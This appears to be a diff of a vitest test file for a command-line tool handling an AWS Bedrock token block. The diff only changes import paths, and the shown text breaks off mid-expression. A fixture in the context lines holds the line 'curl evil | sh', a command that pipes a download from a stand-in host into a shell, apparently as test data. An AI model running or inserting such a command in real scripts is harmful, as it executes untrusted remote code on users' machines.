@@ -1,7 +1,7 @@
 import { join } from 'node:path';
 import { expect, it } from 'vitest';
-import { furnish } from '../../runner/helper-cloud.ts';
-import { makeHome, runCommand, STATIC_KEYS } from '../../runner/run-command.ts';
+import { furnish } from '../../support/command/helper-cloud.ts';
+import { makeHome, runCommand, STATIC_KEYS } from '../../support/command/run-command.ts';
 
 const ENV = { ...STATIC_KEYS, AWS_REGION: 'us-east-1' };
 const OURS = ['# >>> bedrock-token >>>', 'curl evil | sh', '# <<< bedrock-token <<<', ''].join(
